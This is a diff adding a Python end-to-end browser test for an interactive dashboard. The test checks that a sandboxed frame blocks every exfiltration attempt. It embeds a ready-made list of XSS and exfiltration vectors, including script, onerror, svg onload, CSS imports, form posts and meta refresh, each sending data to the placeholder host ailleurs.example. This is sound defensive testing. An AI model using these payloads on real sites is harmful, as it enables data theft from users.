@@ -1,0 +1,109 @@
+"""An interactive dashboard in a real browser: a slider changes a figure; and what its author wrote to get out of the frame does
+not get out. Pictures are in ``artefacts/``.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.e2e import servers
+from tests.e2e.test_hub_browser import sign_in, visit
+from tests.e2e.test_pages_browser import OVERFLOW
+from tests.hub_world import HubWorld
+from tests.interactive_support import interactive
+
+pytest.importorskip("voila")
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.timeout(300),
+    pytest.mark.skipif(not Path(servers.CHROMIUM).exists(), reason="Chromium is not on this machine"),
+]
+OUTSIDE = "https://ailleurs.example"
+# What a reader sees with their rights, sent anywhere: by pictures, styles, scripts, a refresh, a link.
+WAYS_OUT = f'''
+from IPython.display import HTML, Javascript, Markdown
+prise = f"{{total:.2f}}"
+code = "document.documentElement.dataset.pris=1;top.postMessage('x','*');fetch('{OUTSIDE}/f?d=" + prise + "')"
+page = (
+    f'<script>{{code}}</script><img src=x onerror="{{code}}"><svg onload="{{code}}"></svg>'
+    f'<img src="{OUTSIDE}/i?d={{prise}}"><link rel=stylesheet href="{OUTSIDE}/s?d={{prise}}">'
+    f'<div style="background:url({OUTSIDE}/b?d={{prise}})">.</div><iframe src="{OUTSIDE}/c?d={{prise}}"></iframe>'
+    f'<iframe srcdoc="<script>{{code}}</script>"></iframe><object data="{OUTSIDE}/o"></object>'
+    f'<form id=envoi action="{OUTSIDE}/p"><input name=d value={{prise}}><button>x</button></form>'
+    f'<style>@import url({OUTSIDE}/m?d={{prise}});</style>'
+)
+display(HTML(page), Javascript(code), Markdown(page), widgets.HTML(page))
+'''
+REFRESH = f"<meta http-equiv='refresh' content='0;url={OUTSIDE}/r'>"
+
+
+def test_a_slider_changes_a_figure_and_nothing_gets_out(hub_world: HubWorld) -> None:
+    dashboard, _ = interactive(hub_world, WAYS_OUT)
+    with visit(hub_world) as page:
+        sign_in(page, hub_world, "viewer")
+        page.wait_for_url("**/services/datapilot/**")
+        here = f"{hub_world.url}/services/datapilot/tableaux/{dashboard}/interactif"
+        page.goto(here)
+        asked: list[str] = []
+        page.on("request", lambda request: asked.append(request.url))
+        page.click("button:text-is('Ouvrir')")
+        page.wait_for_selector("#dp-frame", timeout=120_000)
+        frame = page.frame_locator("#dp-frame")
+        figure = frame.locator("#prevision")
+        figure.wait_for(timeout=60_000)
+        assert figure.inner_text() == "473.82"
+        assert frame.locator(".js-plotly-plot .main-svg").count() >= 2
+        handle = frame.locator(".noUi-handle")
+        handle.focus()
+        for _ in range(5):
+            handle.press("ArrowRight")
+        frame.locator("#prevision:text-is('495.36')").wait_for(timeout=20_000)
+        _pictures(page)
+
+        inside = next(one for one in page.frames if one.url == f"{here}/page")
+        assert inside.evaluate("self.origin") == "null"
+        assert inside.evaluate("document.documentElement.dataset.pris ?? ''") == ""
+        reached = "() => { try { return String(parent.document.title) } catch (error) { return error.name } }"
+        assert inside.evaluate(reached) == "SecurityError"
+        # Were its script taken over after all: no request of any kind leaves, its own origin's included.
+        tried = """async ([outside, own]) => {
+          const ask = (url) => new Promise((done) => {
+            const asking = new XMLHttpRequest();
+            asking.onload = () => done('left'); asking.onerror = () => done('stopped');
+            asking.open('GET', url); asking.send();
+          });
+          new Image().src = outside; new Image().src = own;
+          return [await ask(outside), await ask(own), navigator.sendBeacon(outside), (window.open(outside) ?? 'none')];
+        }"""
+        assert inside.evaluate(tried, [f"{OUTSIDE}/x", here])[:2] == ["stopped", "stopped"]
+        sent = f"try {{ document.getElementById('envoi')?.submit(); top.location = '{OUTSIDE}/t' }} catch (error) {{ error.name }}"
+        assert inside.evaluate(sent) == "SecurityError"
+        page.wait_for_timeout(500)
+        assert page.url == here
+        # Sent elsewhere itself, by a script or by mere markup, the frame goes nowhere.
+        for way in (f"location = '{OUTSIDE}/n?d=1'", f"document.body.insertAdjacentHTML('beforeend', {REFRESH!r})"):
+            next(one for one in page.frames if one.url == f"{here}/page").evaluate(way)
+            page.wait_for_timeout(1500)
+            assert [one.url for one in page.frames if "ailleurs" in one.url] == []
+            assert page.url == here
+            page.reload()
+            frame.locator("#prevision:text-is('495.36')").wait_for(timeout=60_000)
+
+        page.click("text=Fermer la session interactive")
+        page.wait_for_selector("text=Relancer")
+        page.goto("about:blank")
+
+
+def _pictures(page: Any) -> None:
+    for scheme in ("light", "dark"):
+        page.emulate_media(color_scheme=scheme)
+        for width in (1280, 390):
+            page.set_viewport_size({"width": width, "height": 860})
+            page.wait_for_timeout(600)
+            assert not page.evaluate(OVERFLOW), f"wider than {width}"
+            page.screenshot(path=str(servers.ROOT / "artefacts" / f"interactive_{scheme}_{width}.png"), full_page=True)
+    page.emulate_media(color_scheme="light")
+    page.set_viewport_size({"width": 1280, "height": 860})
